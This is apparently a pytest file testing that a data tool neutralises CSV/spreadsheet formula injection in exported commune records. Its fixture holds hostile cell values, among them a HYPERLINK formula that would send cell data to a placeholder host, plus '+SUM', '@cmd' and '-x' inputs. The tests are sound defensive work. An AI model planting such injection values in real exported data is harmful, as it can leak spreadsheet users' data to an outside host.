"""Written views: a name or id from the input is never a formula in a spreadsheet.

The oracle is what a spreadsheet runs: text that starts with ``=``, ``+``, ``@`` or a ``-``
followed by more text is a formula in CSV (Excel, LibreOffice), and a string starting with
``=`` is a formula cell for openpyxl unless its type is text.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from ntm_rules.cli import main

HOSTILE = (
    "commune,province,region,year,3.1\n"
    '"=HYPERLINK(""http://x/?""&A1;""c"")",+SUM(1),TN,2024,85\n'
    "-x,@cmd,TN,2024,80\n"
    "Thu Lũm,Lai Châu,TN,2024,85\n"
)


@pytest.fixture
def source(tmp_path: Path) -> Path:
    path = tmp_path / "communes.csv"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def test_csv_text_that_would_run_gets_an_apostrophe(
    source: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "out.csv"
    assert main(["batch", str(source), "-o", str(target)]) == 0
    capsys.readouterr()
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["commune"], r["province"]) for r in rows] == [
        ('\'=HYPERLINK("http://x/?"&A1;"c")', "'+SUM(1)"),
        ("'-x", "'@cmd"),
        ("Thu Lũm", "Lai Châu"),
    ]


def test_excel_text_cells_are_text(
    source: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "out.xlsx"
    assert main(["batch", str(source), "-o", str(target)]) == 0
    capsys.readouterr()
    sheet = openpyxl.load_workbook(target)["communes"]
    cells = [(row[1].value, row[1].data_type) for row in sheet.iter_rows(min_row=2)]
    assert cells == [
        ('=HYPERLINK("http://x/?"&A1;"c")', "s"),
        ("-x", "s"),
        ("Thu Lũm", "s"),
    ]
